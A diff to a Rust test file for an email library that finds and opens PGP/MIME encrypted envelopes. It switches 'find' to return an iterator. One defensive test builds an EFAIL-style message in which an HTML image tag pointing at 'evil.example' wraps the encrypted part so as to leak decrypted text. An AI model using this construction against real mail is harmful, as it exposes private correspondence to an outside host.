@@ -19,7 +19,7 @@ fn shown(message: &str) -> String {
         };
         format!("{} {} {form}, not {}", sealed.scheme.name(), id(sealed.part), uncovered(&message, sealed).join("+"))
     };
-    find(&message).iter().map(one).collect::<Vec<_>>().join("; ")
+    find(&message).map(|sealed| one(&sealed)).collect::<Vec<_>>().join("; ")
 }
 
 #[test]
@@ -103,7 +103,7 @@ fn nothing_of_the_message_around_an_envelope_comes_along_but_its_header_fields()
         <img src=\"https://evil.example/?\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
         --b\nContent-Type: application/octet-stream\n\nx\n--b\nContent-Type: text/html\n\n\">\n--b--\n";
     let message = Message::parse(source.as_bytes());
-    let sealed = find(&message).remove(0);
+    let sealed = find(&message).next().expect("an envelope");
     let put = |content: &str| String::from_utf8(opened(&message, &sealed, content.as_bytes())).expect("text");
     let wanted = "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nsecret\r\n";
     assert_eq!(put("Content-Type: text/plain\r\n\r\nsecret\r\n"), wanted);
